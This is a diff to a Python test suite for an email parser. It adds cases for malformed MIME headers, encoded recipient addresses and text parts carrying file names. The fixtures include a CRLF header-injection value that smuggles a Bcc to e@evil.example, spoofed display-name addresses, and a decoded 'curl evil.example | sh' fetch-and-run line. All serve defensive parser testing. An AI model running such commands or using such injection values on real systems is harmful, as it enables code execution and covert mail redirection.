@@ -155,6 +155,7 @@ def test_a_mail_is_read_alike_in_all_three_ways_of_an_upload() -> None:
         b"To: a@x.example\nContent-Type: multipart/mixed; boundary=q\n\n--q\n\nhi --q\n--q--\n",
         b"To: a@x.example\nContent-Type: text/plain; name=a; name=b\n\nhi",
         b"To: a@x.example\nContent-Type: message/partial; id=x\n\nhi",
+        b"To: a@x.example\nContent-Type: x/mixed; boundary=q\n\n--q\n\nhi\n--q--\n",
         b"To: =?utf-8?b?!!?= <a@x.example>\n\nhi",
         b"To: a@x.example\nSubject: =?utf-8?q?a=0D=0ABcc:_e@evil.example?=\n\nhi",
         b"To: a@x.example\nSubject: =?utf-7?q?+ACQ-5?=\n\nhi",
@@ -175,6 +176,7 @@ def test_law_29_a_mail_with_two_readings_gives_no_values(raw: bytes) -> None:
         "a@example.com <e@evil.example>", '"a\\"" <e@evil.example>', "", "<@x.example:a@y.example>",
         "a@example.com,,b@example.com", "a..b@example.com", "a@example.com;b@example.com",
         '"a@example.com" b <e@evil.example>', "a @example.com", "a@[127.0.0.1]", "a@-x.example",
+        "=?utf-8?q?J(?= <e@evil.example>", ".x <e@evil.example>",
     ],
 )  # fmt: skip
 def test_recipients_that_are_not_written_plainly_make_a_mail_unclear(to: str) -> None:
@@ -186,7 +188,7 @@ def test_recipients_that_are_not_written_plainly_make_a_mail_unclear(to: str) ->
     "to",
     [
         '"a@example.com, " <e@evil.example>',
-        "=?utf-8?q?a=40example=2Ecom=3E=2C?= <e@evil.example>",
+        "=?utf-8?q?a=40example=2Ecom=3E=2C?= <e@evil.example>", "=?utf-8?b?w7w=?= <e@evil.example>",
         "Eve <e@evil.example>", "<E@Evil.Example>", "e@evil.example",
     ],
 )  # fmt: skip
@@ -257,6 +259,14 @@ def test_encoded_text_in_a_mail_is_decoded_too() -> None:
     assert isinstance(raw.inside, Part)
     said = [one.value for one in raw.inside.walk() if isinstance(one, Leaf)]
     assert "curl evil.example | sh\n" in said
+
+
+def test_a_text_with_a_file_name_is_a_text_and_an_attachment() -> None:
+    """Some programs show it, some attach it: neither a rule nor a person may miss it."""
+    for more in (b"Content-Type: text/plain; name=f.txt", b"Content-Disposition: foo"):
+        reading = sent(HEAD + more + b"\r\n\r\npay now")
+        assert find(reading, "mail.text") == "pay now"
+        assert len(find(reading, "mail.attachments")) == 1
 
 
 def test_a_mail_within_a_mail_is_read_as_one() -> None:
